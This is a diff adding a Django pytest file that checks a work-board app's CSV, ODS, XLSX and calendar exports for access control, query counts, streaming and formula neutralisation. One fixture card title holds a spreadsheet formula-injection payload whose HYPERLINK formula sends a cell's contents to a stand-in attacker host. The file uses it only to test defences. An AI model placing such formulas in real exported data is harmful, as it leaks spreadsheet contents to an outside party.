@@ -1,0 +1,624 @@
+"""Exports of a board: what a team member, a read-only viewer and a stranger download."""
+
+import asyncio
+import csv
+import io
+from collections.abc import AsyncIterator, Callable, Iterator
+from datetime import date, datetime
+from decimal import Decimal
+
+import openpyxl
+import pytest
+from asgiref.sync import sync_to_async
+from django.db import connection
+from django.http import HttpResponse, HttpResponseBase, StreamingHttpResponse
+from django.test import AsyncClient, Client
+from django.test.utils import CaptureQueriesContext
+from django.urls import reverse
+from django.utils import timezone, translation
+from django.utils.translation import gettext
+from odf.namespaces import OFFICENS
+from odf.opendocument import load as load_ods
+from odf.table import Table, TableCell, TableRow
+
+from officina.accounts.models import User
+from officina.boards.exports import (
+    DueDate,
+    Row,
+    csv_chunks,
+    ics_bytes,
+    neutralise_formula,
+    ods_bytes,
+    xlsx_bytes,
+)
+from officina.boards.models import Board, Label, WorkItem, WorkItemEvent
+from officina.boards.services.cards import (
+    work_item_create,
+    work_item_move,
+    work_item_set_archived,
+    work_item_set_blocked,
+)
+from officina.boards.tests.factories import bulk_cards, make_board
+from officina.boards.views.exports import _in_worker_thread
+from officina.organisations.actor import Actor
+from officina.organisations.models import Organisation, Team
+from officina.organisations.tests.factories import TeamFactory, TeamMembershipFactory
+
+pytestmark = pytest.mark.django_db
+
+TABLE_FORMATS = ("csv", "ods", "xlsx")
+
+
+def _client(user: User, language: str = "it") -> Client:
+    client = Client(HTTP_ACCEPT_LANGUAGE=language)
+    client.force_login(user)
+    return client
+
+
+def _it(msgid: str) -> str:
+    """The text as the Italian export shows it, whether or not the catalogue is compiled yet."""
+    with translation.override("it"):
+        return gettext(msgid)
+
+
+def export_url(name: str, board: Board) -> str:
+    return reverse(
+        f"boards:{name}", kwargs={"org_slug": board.organisation.slug, "board_id": board.pk}
+    )
+
+
+def body_of(response: HttpResponseBase) -> bytes:
+    if isinstance(response, StreamingHttpResponse):
+        return b"".join(response.streaming_content)  # type: ignore[arg-type]
+    assert isinstance(response, HttpResponse)
+    return response.content
+
+
+# --- Reading the files back, as a spreadsheet program would -------------------------------------
+
+
+def read_csv(content: bytes) -> list[list[str]]:
+    assert content.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read accents"
+    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
+
+
+def read_xlsx(content: bytes) -> list[list[object]]:
+    workbook = openpyxl.load_workbook(io.BytesIO(content))
+    return [list(row) for row in workbook.active.iter_rows(values_only=True)]
+
+
+def _ods_cell_value(cell: TableCell) -> object:
+    kind = cell.getAttrNS(OFFICENS, "value-type")
+    if kind == "float":
+        return Decimal(cell.getAttrNS(OFFICENS, "value"))
+    if kind == "date":
+        return cell.getAttrNS(OFFICENS, "date-value")
+    if kind == "string":
+        return "".join(str(part) for part in cell.childNodes)
+    return None
+
+
+def read_ods(content: bytes) -> list[list[object]]:
+    document = load_ods(io.BytesIO(content))
+    [table] = document.spreadsheet.getElementsByType(Table)
+    return [
+        [_ods_cell_value(cell) for cell in row.getElementsByType(TableCell)]
+        for row in table.getElementsByType(TableRow)
+    ]
+
+
+def read_table(fmt: str, content: bytes) -> list[list[str]]:
+    """Every cell as text, whatever the format, to compare the three alike."""
+    if fmt == "csv":
+        return read_csv(content)
+    rows = read_ods(content) if fmt == "ods" else read_xlsx(content)
+    return [["" if value is None else str(value) for value in row] for row in rows]
+
+
+def read_ics(content: bytes) -> list[dict[str, str]]:
+    """The VEVENTs of a calendar, unfolded, as {property (with parameters): value}."""
+    text = content.decode("utf-8")
+    assert "\n" not in text.replace("\r\n", ""), "every line ends with CRLF"
+    assert all(len(line.encode()) <= 75 for line in text.split("\r\n")), "folded at 75 octets"
+    lines = text.replace("\r\n ", "").split("\r\n")
+    assert lines[0] == "BEGIN:VCALENDAR"
+    assert lines[-2:] == ["END:VCALENDAR", ""]
+    events: list[dict[str, str]] = []
+    current: dict[str, str] | None = None
+    for line in lines:
+        if line == "BEGIN:VEVENT":
+            current = {}
+        elif line == "END:VEVENT" and current is not None:
+            events.append(current)
+            current = None
+        elif current is not None:
+            name, value = line.split(":", 1)
+            current[name] = value
+    return events
+
+
+# --- A board with a history -----------------------------------------------------------------
+
+
+@pytest.fixture
+def shared_board(team: Team) -> Board:
+    """Visible to the whole organisation: read-only for the people outside the team."""
+    return make_board(
+        team=team,
+        name="Sportello",
+        visibility=Board.Visibility.ORGANISATION,
+        lanes=("Attività", "Urgente"),
+    )
+
+
+@pytest.fixture
+def worked_board(shared_board: Board, member: User, lead: User, member_actor: Actor) -> Board:
+    """#1 moved to "In corso", assigned and blocked; #2 with a formula for a title, due soon;
+    #3 archived; #4 done with a due date (not in the calendar)."""
+    board = shared_board
+    label = Label.objects.create(organisation=board.organisation, board=board, name="Comune")
+    in_progress, done = board.columns.get(position=1), board.columns.get(position=2)
+    first = work_item_create(
+        actor=member_actor,
+        board=board,
+        title="Rinnovo convenzione mensa, à la carte",
+        assignee_ids=[member.pk, lead.pk],
+        label_ids=[label.pk],
+        estimate=Decimal("3.5"),
+        class_of_service=WorkItem.ClassOfService.URGENT,
+        due_date=date(2026, 12, 15),
+    )
+    work_item_move(
+        actor=member_actor,
+        work_item=first,
+        column=in_progress,
+        swimlane=board.swimlanes.get(position=1),
+    )
+    work_item_set_blocked(
+        actor=member_actor, work_item=first, blocked=True, reason="Manca la delibera"
+    )
+    work_item_create(
+        actor=member_actor,
+        board=board,
+        title='=HYPERLINK("http://evil.example/?x="&A1;"clic")',
+        due_date=date(2026, 12, 1),
+    )
+    third = work_item_create(actor=member_actor, board=board, title="Vecchia pratica")
+    work_item_set_archived(actor=member_actor, work_item=third, archived=True)
+    fourth = work_item_create(
+        actor=member_actor, board=board, title="Fatta", due_date=date(2026, 11, 30)
+    )
+    work_item_move(actor=member_actor, work_item=fourth, column=done)
+    return board
+
+
+# --- The page -------------------------------------------------------------------------------
+
+
+def test_export_page_lists_every_format_with_what_it_holds(worked_board: Board, member: User):
+    response = _client(member).get(export_url("board-export", worked_board))
+
+    assert response.status_code == 200
+    page = response.content.decode()
+    assert _it("Export the board") in page
+    for name in (
+        *(f"board-export-cards-{fmt}" for fmt in TABLE_FORMATS),
+        *(f"board-export-events-{fmt}" for fmt in TABLE_FORMATS),
+        "board-export-due-ics",
+    ):
+        assert f'href="{export_url(name, worked_board)}"' in page
+    assert _it("Reason for the block") in page  # the columns of the cards file are listed
+    assert response.context["summary"].cards == 4
+    assert response.context["summary"].archived_cards == 1
+    assert response.context["summary"].due_dates == 2
+
+
+# --- Cards ----------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("fmt", TABLE_FORMATS)
+def test_cards_export_holds_one_row_per_card_archived_included(
+    worked_board: Board, member: User, fmt: str
+):
+    response = _client(member, "en").get(export_url(f"board-export-cards-{fmt}", worked_board))
+
+    assert response.status_code == 200
+    assert response.streaming == (fmt == "csv"), "CSV streams; spreadsheets are built whole"
+    assert response["Content-Disposition"] == (
+        f'attachment; filename="bacheca-{worked_board.pk}-schede-'
+        f'{timezone.localdate():%Y-%m-%d}.{fmt}"'
+    )
+    rows = read_table(fmt, body_of(response))
+    assert rows[0] == [
+        "Number",
+        "Title",
+        "Column",
+        "Stage",
+        "Swimlane",
+        "Assignees",
+        "Labels",
+        "Due date",
+        "Estimate (points)",
+        "Class of service",
+        "Blocked",
+        "Reason for the block",
+        "Created on",
+        "Started on",
+        "Finished on",
+        "Archived on",
+    ]
+    cards = {row[1]: row for row in rows[1:]}
+    assert len(rows) == 5
+    first = cards["Rinnovo convenzione mensa, à la carte"]
+    assert first[0] == "1"
+    assert first[2:7] == [
+        "In corso",
+        "In progress",
+        "Urgente",
+        "Marco Bertolini, Giulia Ferrari",
+        "Comune",
+    ]
+    assert first[7].startswith("2026-12-15")
+    assert Decimal(first[8]) == Decimal("3.5")
+    assert first[9:12] == ["Urgent", "Yes", "Manca la delibera"]
+    assert first[12], "created on"
+    assert first[13], "started on"
+    assert first[14:16] == ["", ""], "neither finished nor archived"
+    archived = cards["Vecchia pratica"]
+    assert archived[15], "the archived card says when it was archived"
+    assert cards["Fatta"][3] == "Done"
+    assert cards["Fatta"][14], "the done card says when it finished"
+
+
+def test_cards_csv_headers_are_italian_by_default_and_times_carry_rome_offset(
+    worked_board: Board, member: User
+):
+    response = _client(member).get(export_url("board-export-cards-csv", worked_board))
+
+    rows = read_csv(body_of(response))
+    assert rows[0][:4] == [_it("Number"), _it("Title"), _it("Column"), _it("Stage")]
+    created_on = datetime.fromisoformat(rows[1][12])
+    assert created_on.utcoffset() == timezone.localtime().utcoffset()
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+
+
+@pytest.mark.parametrize("fmt", TABLE_FORMATS)
+def test_a_title_that_looks_like_a_formula_stays_text(worked_board: Board, member: User, fmt: str):
+    response = _client(member).get(export_url(f"board-export-cards-{fmt}", worked_board))
+
+    titles = [row[1] for row in read_table(fmt, body_of(response))[1:]]
+    assert '\'=HYPERLINK("http://evil.example/?x="&A1;"clic")' in titles
+    assert not any(title.startswith(("=", "+", "-", "@")) for title in titles)
+
+
+def test_a_read_only_viewer_exports_what_they_can_see(
+    worked_board: Board, make_employee: Callable[..., User]
+):
+    colleague = make_employee(first_name="Anna", last_name="Neri")  # not in the team
+
+    response = _client(colleague).get(export_url("board-export-cards-csv", worked_board))
+
+    assert response.status_code == 200
+    assert len(read_csv(body_of(response))) == 5
+
+
+def test_a_guest_exports_only_the_boards_they_are_invited_to(
+    team: Team, worked_board: Board, guest: User
+):
+    other = make_board(team=team, name="Interna")
+    worked_board.guests.add(guest)
+
+    invited = _client(guest).get(export_url("board-export-events-csv", worked_board))
+    not_invited = _client(guest).get(export_url("board-export-events-csv", other))
+
+    assert invited.status_code == 200
+    assert not_invited.status_code == 404
+
+
+def test_export_page_spends_the_same_queries_for_1_and_for_30_cards(
+    shared_board: Board, member: User, session_queries: int, django_assert_num_queries
+):
+    client = _client(member)
+    url = export_url("board-export", shared_board)
+    # session, user, actor (3), board with access, card counts, event count, header badge
+    expected = session_queries + 1 + 3 + 1 + 2 + 1
+
+    _cards_with_people(shared_board, 1, [member])
+    with django_assert_num_queries(expected):
+        assert client.get(url).status_code == 200
+    _cards_with_people(shared_board, 29, [member])
+    with django_assert_num_queries(expected):
+        assert client.get(url).status_code == 200
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "board-export",
+        *(f"board-export-cards-{fmt}" for fmt in TABLE_FORMATS),
+        *(f"board-export-events-{fmt}" for fmt in TABLE_FORMATS),
+        "board-export-due-ics",
+    ],
+)
+def test_another_teams_board_is_not_found(
+    organisation: Organisation, make_employee: Callable[..., User], member: User, name: str
+):
+    other_team = TeamFactory(organisation=organisation, name="Servizi sociali")
+    TeamMembershipFactory(team=other_team, user=make_employee())
+    private = make_board(team=other_team, name="Casi riservati")
+
+    response = _client(member).get(export_url(name, private))
+
+    assert response.status_code == 404
+
+
+# --- Events ---------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("fmt", TABLE_FORMATS)
+def test_events_export_holds_every_change_with_moves_from_and_to(
+    worked_board: Board, member: User, fmt: str
+):
+    response = _client(member, "en").get(export_url(f"board-export-events-{fmt}", worked_board))
+
+    assert response.status_code == 200
+    assert f"-eventi-{timezone.localdate():%Y-%m-%d}.{fmt}" in response["Content-Disposition"]
+    rows = read_table(fmt, body_of(response))
+    assert rows[0] == [
+        "Event ID",
+        "Card number",
+        "Card title",
+        "Event",
+        "Event code",
+        "When",
+        "By",
+        "From column",
+        "To column",
+        "From lane",
+        "To lane",
+        "From stage",
+        "To stage",
+        "Details",
+    ]
+    events = WorkItemEvent.objects.filter(board=worked_board)
+    assert len(rows) == 1 + events.count()
+    assert [row[4] for row in rows[1:]] == [event.kind for event in events]
+    move = next(row for row in rows[1:] if row[4] == "moved")
+    assert move[2:4] == ["Rinnovo convenzione mensa, à la carte", "moved"]
+    assert move[6:13] == [
+        "Giulia Ferrari",
+        "Da fare",
+        "In corso",
+        "Attività",
+        "Urgente",
+        "Not started",
+        "In progress",
+    ]
+    blocked = next(row for row in rows[1:] if row[4] == "blocked")
+    assert "Manca la delibera" in blocked[13]
+
+
+def test_events_csv_times_are_iso_8601_with_offset(worked_board: Board, member: User):
+    response = _client(member).get(export_url("board-export-events-csv", worked_board))
+
+    rows = read_csv(body_of(response))
+    first = WorkItemEvent.objects.filter(board=worked_board).first()
+    assert first is not None
+    when = datetime.fromisoformat(rows[1][5])
+    assert when.tzinfo is not None
+    assert when == first.occurred_at.replace(microsecond=0)
+
+
+# --- Due dates ------------------------------------------------------------------------------
+
+
+def test_due_dates_calendar_has_one_all_day_event_per_open_card(worked_board: Board, member: User):
+    response = _client(member).get(export_url("board-export-due-ics", worked_board))
+
+    assert response.status_code == 200
+    assert response["Content-Type"] == "text/calendar; charset=utf-8"
+    events = read_ics(body_of(response))
+    assert [event["SUMMARY"] for event in events] == [
+        '#2 =HYPERLINK("http://evil.example/?x="&A1\\;"clic")',
+        "#1 Rinnovo convenzione mensa\\, à la carte",
+    ]
+    second = events[0]
+    assert second["DTSTART;VALUE=DATE"] == "20261201"
+    assert second["DTEND;VALUE=DATE"] == "20261202"
+    card_path = reverse(
+        "boards:card-detail",
+        kwargs={
+            "org_slug": worked_board.organisation.slug,
+            "board_id": worked_board.pk,
+            "number": 2,
+        },
+    )
+    assert second["URL;VALUE=URI"] == f"http://testserver{card_path}"
+    again = read_ics(body_of(_client(member).get(export_url("board-export-due-ics", worked_board))))
+    assert [event["UID"] for event in again] == [event["UID"] for event in events]
+    assert len({event["UID"] for event in events}) == 2
+
+
+def test_long_lines_fold_without_splitting_a_character():
+    entry = DueDate(
+        uid="scheda-1@ente.officina",
+        summary="#1 " + "è" * 100,
+        day=date(2026, 12, 1),
+        url="http://testserver/",
+        description="",
+        stamp=timezone.now(),
+    )
+
+    content = ics_bytes("Calendario", [entry])
+
+    [event] = read_ics(content)
+    assert event["SUMMARY"] == "#1 " + "è" * 100
+
+
+# --- Big boards: constant queries, streamed CSV --------------------------------------------------
+
+
+def _cards_with_people(board: Board, count: int, people: list[User]) -> None:
+    column, lane = board.columns.get(position=0), board.swimlanes.get(position=0)
+    label = Label.objects.get_or_create(
+        organisation=board.organisation, board=board, name="Comune"
+    )[0]
+    for card in bulk_cards(board=board, count=count, column=column, swimlane=lane):
+        card.assignees.set(people)
+        card.labels.add(label)
+
+
+@pytest.mark.parametrize("name", ["cards-csv", "cards-ods", "cards-xlsx"])
+def test_cards_export_spends_the_same_queries_for_1_and_for_30_cards(
+    shared_board: Board,
+    member: User,
+    lead: User,
+    session_queries: int,
+    django_assert_num_queries,
+    name: str,
+):
+    client = _client(member)
+    url = export_url(f"board-export-{name}", shared_board)
+    # session, user, actor (3), board with access, cards, their assignees, their labels
+    expected = session_queries + 1 + 3 + 1 + 3
+
+    _cards_with_people(shared_board, 1, [member])
+    with django_assert_num_queries(expected):
+        assert len(body_of(client.get(url))) > 0
+
+    _cards_with_people(shared_board, 29, [member, lead])
+    with CaptureQueriesContext(connection) as queries:
+        content = body_of(client.get(url))
+    assert len(queries) == expected
+    assert len(read_table(name.split("-")[1], content)) == 31
+
+
+@pytest.mark.parametrize("name", ["events-csv", "events-xlsx", "due-ics"])
+def test_events_and_calendar_spend_the_same_queries_for_1_and_for_10_cards(
+    shared_board: Board,
+    member_actor: Actor,
+    member: User,
+    session_queries: int,
+    name: str,
+):
+    client = _client(member)
+    url = export_url(f"board-export-{name}", shared_board)
+
+    def spend() -> int:
+        with CaptureQueriesContext(connection) as queries:
+            body_of(client.get(url))
+        return len(queries)
+
+    work_item_create(
+        actor=member_actor, board=shared_board, title="Una", due_date=timezone.localdate()
+    )
+    one = spend()
+    for number in range(9):
+        card = work_item_create(
+            actor=member_actor,
+            board=shared_board,
+            title=f"P{number}",
+            due_date=timezone.localdate(),
+        )
+        work_item_move(
+            actor=member_actor, work_item=card, column=shared_board.columns.get(position=1)
+        )
+    assert spend() == one == session_queries + 1 + 3 + 1 + 1  # ... the board, its rows
+
+
+def test_csv_is_streamed_in_chunks():
+    rows: Iterator[Row] = ([number, f"Pratica {number}"] for number in range(1200))
+
+    chunks = list(csv_chunks(["Numero", "Titolo"], rows))
+
+    assert len(chunks) == 4  # the header, then 500 rows at a time
+    assert read_csv(b"".join(chunks))[-1] == ["1199", "Pratica 1199"]
+
+
+def test_under_asgi_the_chunks_are_read_one_at_a_time():
+    read: list[int] = []
+
+    def chunks() -> Iterator[bytes]:
+        for number in range(3):
+            read.append(number)
+            yield str(number).encode()
+
+    async def first_of(iterator: Iterator[bytes]) -> bytes:
+        return await anext(aiter(_in_worker_thread(iterator)))
+
+    assert asyncio.run(first_of(chunks())) == b"0"
+    assert read == [0], "the rest is not read ahead"
+
+
+# --- The writers on their own -----------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("text", "safe"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+39 0522", "'+39 0522"),
+        ("-2", "'-2"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("Pratica = 3", "Pratica = 3"),
+        ("", ""),
+    ],
+)
+def test_formula_injection_is_neutralised(text: str, safe: str):
+    assert neutralise_formula(text) == safe
+
+
+@pytest.mark.parametrize("fmt", ["ods", "xlsx"])
+def test_spreadsheets_keep_numbers_dates_and_times_as_real_cells(fmt: str):
+    moment = timezone.localtime(timezone.now()).replace(microsecond=0)
+    rows: list[Row] = [
+        [7, Decimal("2.5"), date(2026, 11, 26), moment, "Testo\x01 con controllo", None]
+    ]
+
+    content = (ods_bytes if fmt == "ods" else xlsx_bytes)("Schede", list("ABCDEF"), iter(rows))
+
+    if fmt == "xlsx":
+        [row] = read_xlsx(content)[1:]
+        assert row[:2] == [7, 2.5]
+        assert row[2] == datetime(2026, 11, 26)  # noqa: DTZ001 - as Excel stores it
+        assert row[3] == moment.replace(tzinfo=None)
+        assert row[4:] == ["Testo con controllo", None]
+    else:
+        [row] = read_ods(content)[1:]
+        assert row[:2] == [Decimal(7), Decimal("2.5")]
+        assert row[2:4] == ["2026-11-26", moment.replace(tzinfo=None).isoformat()]
+        assert row[4] == "Testo con controllo"
+        assert row[5] is None
+
+
+def test_the_ods_package_starts_with_its_mimetype():
+    content = ods_bytes("Schede", ["A"], iter([]))
+
+    assert content[30:38] == b"mimetype"
+    assert content[38:84] == b"application/vnd.oasis.opendocument.spreadsheet"
+
+
+@pytest.mark.asyncio
+@pytest.mark.django_db(transaction=True)
+async def test_under_asgi_the_csv_streams_from_the_database(team: Team, member: User):
+    board = await sync_to_async(make_board)(team=team)
+    column, lane = await sync_to_async(
+        lambda: (board.columns.get(position=0), board.swimlanes.get(position=0))
+    )()
+    await sync_to_async(bulk_cards)(board=board, count=1200, column=column, swimlane=lane)
+    url = await sync_to_async(export_url)("board-export-cards-csv", board)
+    client = AsyncClient(HTTP_ACCEPT_LANGUAGE="it")
+    await client.aforce_login(member)
+
+    response = await client.get(url)
+
+    assert response.status_code == 200
+    assert response.streaming
+    # An async iterator: given a sync one, Django under ASGI would read the whole CSV first.
+    stream: AsyncIterator[bytes] = response.streaming_content  # type: ignore[attr-defined]
+    chunks = [chunk async for chunk in stream]
+    assert len(chunks) == 4  # the header, then 500 rows at a time
+    rows = read_csv(b"".join(chunks))
+    assert rows[0][0] == _it("Number")
+    assert [row[0] for row in rows[1:]] == [str(number) for number in range(1, 1201)]
